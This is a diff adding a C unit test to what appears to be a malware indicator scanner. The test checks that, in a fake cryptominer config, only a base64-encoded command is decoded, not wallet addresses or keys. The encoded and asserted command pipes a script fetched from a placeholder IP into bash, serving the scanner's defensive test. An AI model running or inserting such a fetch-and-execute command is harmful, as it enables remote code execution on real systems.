@@ -508,6 +508,29 @@ Test(iocs, base64_short_hex_and_identifiers_skipped) {
     free(b.first);
 }
 
+/* Issue 9: a wallet address, a long hex id or an API key in a config is
+ * not base64 to decode; a config once gave three objects for one file. */
+Test(iocs, base64_only_for_data_that_is_base64) {
+    char xmr[128], text[2048];
+    t_make_xmr(18, false, xmr, sizeof(xmr));
+    unsigned char key[48];
+    for (size_t i = 0; i < sizeof(key); i++)
+        key[i] = (unsigned char)(i * 97 + 13);
+    char keyb64[80];
+    EVP_EncodeBlock((unsigned char *)keyb64, key, sizeof(key)); /* 64 chars of noise */
+    char *script = b64("curl -s http://203.0.113.9/x.sh | bash\n");
+    snprintf(text, sizeof(text),
+             "{\"user\": \"%s\",\n \"rig-id\": \"0123456789abcdefABCDEF0123456789abcdefABCDEF0123456789abcdef\",\n"
+             " \"api-token\": \"%s\",\n \"odd\": \"%.41s\",\n \"cmd\": \"%s\"}\n",
+             xmr, keyb64, "QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVphYmNkZWZnaGlqa2w=", script);
+    blobs b = {0};
+    cr_assert_eq(ms_base64_blobs((const uint8_t *)text, strlen(text), on_blob, &b), 0);
+    cr_assert_eq(b.calls, 1, "only the script is decoded:\n%s", text);
+    cr_assert_str_eq(b.first, "curl -s http://203.0.113.9/x.sh | bash\n");
+    free(b.first);
+    free(script);
+}
+
 Test(iocs, base64_wrapped_lines_are_one_blob) {
     char plain[400], text[1024];
     for (size_t i = 0; i < sizeof(plain) - 1; i++)
